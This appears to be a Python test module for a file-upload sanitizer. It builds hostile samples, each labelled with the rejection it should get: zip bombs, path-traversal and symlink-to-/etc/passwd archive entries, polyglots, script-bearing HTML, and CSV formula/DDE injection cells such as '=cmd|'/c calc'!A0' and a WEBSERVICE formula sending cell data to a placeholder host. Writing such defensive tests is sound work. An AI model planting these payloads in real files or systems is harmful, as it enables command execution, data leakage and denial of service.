"""Hostile archives, bombs, polyglots, pictures and texts; HARMLESS are accepted and lose what was hidden in them."""

import io
import struct
import zipfile
import zlib
from functools import partial

from tests import files

LETTER = files.docx("Surat")
PAYLOAD = b"<script>alert(document.domain)</script>"
MEGABYTE = 1024 * 1024


def packed(name: str = "word/media/a.png", content: bytes = b"isi", **facts: object) -> bytes:
    """A letter with one entry whose directory facts are set by hand."""
    target = io.BytesIO(LETTER)
    with zipfile.ZipFile(target, "a") as package:
        entry = zipfile.ZipInfo(name)
        for key, value in facts.items():
            setattr(entry, key, value)
        package.writestr(entry, content)
    return target.getvalue()


def twice() -> bytes:
    """A letter with a second `word/document.xml`, which some readers prefer."""
    target = io.BytesIO(LETTER)
    with zipfile.ZipFile(target, "a") as package:
        entry = zipfile.ZipInfo("word/Document.xml")
        package.writestr(entry, "<a/>")
    return target.getvalue()


def renamed(before: bytes, after: bytes, times: int) -> bytes:
    """A letter in which a name is written differently at its entry and in the directory."""
    assert LETTER.count(before) >= times
    return LETTER.replace(before, after, times)


def nested(depth: int) -> bytes:
    content = files.archive({"a.txt": bytes(1000)})
    for _ in range(depth):
        content = files.archive({"a.zip": content})
    return files.with_parts(LETTER, {"word/media/a.png": content})


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG with this chunk before its pixels."""
    content = files.png()
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return content[:33] + chunk + content[33:]


def jpeg_segment(marker: int, data: bytes) -> bytes:
    content = files.jpeg()
    return content[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data + content[2:]


def riff(tail: bytes) -> bytes:
    return files.webp() + tail


CSV_HEAD = b"Nama;Nilai\r\n"
CASES = [
    ("dangerous", "tautan-simbolik.docx", packed(external_attr=0o120777 << 16, content=b"/etc/passwd")),
    ("dangerous", "nama-nol.docx", renamed(b"word/styles.xml", b"word/styles\0xml", 2)),
    ("dangerous", "nama-beda.docx", renamed(b"word/styles.xml", b"word/stylez.xml", 1)),
    ("dangerous", "kembar.docx", twice),
    ("dangerous", "turunan.docx", files.with_parts(LETTER, {"word/../../a.txt": b"a"})),
    ("dangerous", "bzip2.docx", partial(packed, compress_type=zipfile.ZIP_BZIP2)),
    ("dangerous", "lzma.docx", partial(packed, compress_type=zipfile.ZIP_LZMA)),
    ("zip_bomb", "bom.docx", partial(files.with_parts, LETTER, {"word/a.xml": b" " * 60 * MEGABYTE})),
    ("zip_bomb", "bom-gambar.pptx", lambda: files.with_parts(files.pptx(), {"ppt/media/a.bmp": bytes(60 * MEGABYTE)})),
    ("zip_bomb", "bom.odt", lambda: files.with_parts(files.odt(), {"content.xml": b" " * 60 * MEGABYTE})),
    (
        "zip_bomb",
        "ribuan.odt",
        lambda: files.with_parts(files.odt(), {f"Pictures/{n}.png": b"a" for n in range(2_001)}),
    ),
    ("embedded_files", "bersarang.docx", partial(nested, 5)),
    ("embedded_files", "rar.docx", files.with_parts(LETTER, {"word/media/a.png": b"Rar!\x1a\x07\x00" + bytes(99)})),
    ("embedded_files", "pdf.docx", files.with_parts(LETTER, {"word/media/a.png": files.pdf("Satu")})),
    (
        "embedded_files",
        "jar.odt",
        files.with_parts(files.odt(), {"Pictures/a.jar": files.archive({"A.class": b"\xca\xfe\xba\xbe"})}),
    ),
    ("broken", "terpotong.pptx", files.truncated(files.pptx(("Rapat", "")))),
    ("broken", "terpotong.odt", files.truncated(files.odt("Surat"))),
    ("broken", "terpotong.xlsx", files.truncated(files.xlsx(Data=[[1]]), share=0.95)),
    ("polyglot", "pdf-zip.pdf", files.pdf("Satu") + files.archive({"a.exe": b"MZ"})),
    ("polyglot", "pdf-docx.pdf", files.pdf("Satu") + LETTER),
    ("polyglot", "html-pdf.pdf", PAYLOAD + files.pdf("Satu")),
    ("polyglot", "png-zip.png", files.png() + files.archive({"a": "a"})),
    ("polyglot", "png-skrip.png", files.png() + PAYLOAD),
    ("polyglot", "jpeg-zip.jpg", files.jpeg() + files.archive({"a": "a"})),
    ("content_mismatch", "zip-depan.docx", b"MZ" * 100 + LETTER),
    ("content_mismatch", "gif-js.png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"),
    ("content_mismatch", "gif.jpg", b"GIF89a" + bytes(20)),
    ("content_mismatch", "pdf.jpg", files.pdf("Satu")),
    ("content_mismatch", "jpeg.pdf", files.jpeg()),
    ("content_mismatch", "rtf.docx", b"{\\rtf1\\object\\objupdate isi}"),
    ("content_mismatch", "html.docx", b"<html><script>alert(1)</script></html>"),
    ("content_mismatch", "xml-2003.docx", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>'),
    ("content_mismatch", "mht.docx", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>"),
    ("old_office", "lama.xlsx", files.ole("Workbook")),
    ("type_not_allowed", "gambar.svg", files.svg()),
    ("type_not_allowed", "pintasan.lnk", b"L\0\0\0"),
    ("type_not_allowed", "kueri.iqy", b"WEB\r\n1\r\nhttp://contoh.invalid"),
    ("type_not_allowed", "simbolik.slk", b"ID;P\r\nE"),
    ("type_not_allowed", "halaman.html", PAYLOAD),
    ("macros", "makro.xlsm", files.xlsx()),
    ("dangerous", "segmen.png", lambda: files.png()[:33] + b"\0\0\0\0tEXt\x1d\x9bx\xcb" * 50_001 + files.png()[33:]),
    ("too_many_pixels", "luas.png", files.huge_png),
    ("too_many_pixels", "lebar.png", partial(files.huge_png, 100_000, 1_000)),
    ("broken", "terpotong.png", files.truncated(files.png((200, 200)))),
    ("broken", "terpotong.jpg", files.truncated(files.jpeg((200, 200)))),
    ("formula_cells", "dde.csv", CSV_HEAD + b"a;=cmd|'/c calc'!A0\r\n"),
    ("formula_cells", "dde-plus.csv", CSV_HEAD + b"a;+cmd|'/c calc'!A0\r\n"),
    ("formula_cells", "dde-kurang.csv", CSV_HEAD + b"a;\"-2+3+cmd|'/c calc'!A0\"\r\n"),
    ("formula_cells", "dde-at.csv", CSV_HEAD + b"a;@SUM(1+1)*cmd|'/c calc'!A0\r\n"),
    ("formula_cells", "webservice.csv", CSV_HEAD + b'a,"=WEBSERVICE(""http://contoh.invalid/?""&A1)"\r\n'),
    ("formula_cells", "hyperlink.csv", CSV_HEAD + b'a\t=HYPERLINK("http://contoh.invalid";"klik")\r\n'),
    ("formula_cells", "awal.csv", b"\xef\xbb\xbf=cmd|'/c calc'!A0;b\r\n"),
    ("formula_cells", "lebar.csv", CSV_HEAD + "a;\uff1dcmd|'/c calc'!A0\r\n".encode()),
    ("formula_cells", "tab.csv", CSV_HEAD + b"a; \t =cmd|'/c calc'!A0\r\n"),
    ("formula_cells", "baris-cr.csv", b"Nama\r=IMPORTXML(A1)\rb"),
    ("markup", "halaman.csv", b"\r\n<table><tr><td>=cmd|'/c calc'!A0"),
    ("not_plain_text", "utf16.csv", "a;=cmd|'/c calc'!A0".encode("utf-16")),
    ("not_plain_text", "nol.csv", b"a;b\0=cmd|a!A0"),
]
HARMLESS = [
    ("komentar.jpg", jpeg_segment(0xFE, PAYLOAD), PAYLOAD),
    ("exif.jpg", jpeg_segment(0xE1, b"Exif\0\0" + PAYLOAD), PAYLOAD),
    ("aplikasi.jpg", jpeg_segment(0xED, b"Photoshop 3.0\0" + PAYLOAD), PAYLOAD),
    ("pdf-di-komentar.jpg", jpeg_segment(0xFE, files.pdf("Satu")[:2000]), b"%PDF-"),
    ("ekor.jpg", files.jpeg() + PAYLOAD, PAYLOAD),
    ("ekor-rar.jpg", files.jpeg() + b"Rar!\x1a\x07\x00" + PAYLOAD, b"Rar!"),
    ("teks.png", png_chunk(b"tEXt", b"Comment\0" + PAYLOAD), PAYLOAD),
    ("teks-padat.png", png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(MEGABYTE))), b"zTXt"),
    ("exif.png", png_chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0" + PAYLOAD), PAYLOAD),
    ("asing.png", png_chunk(b"skRp", PAYLOAD), PAYLOAD),
]
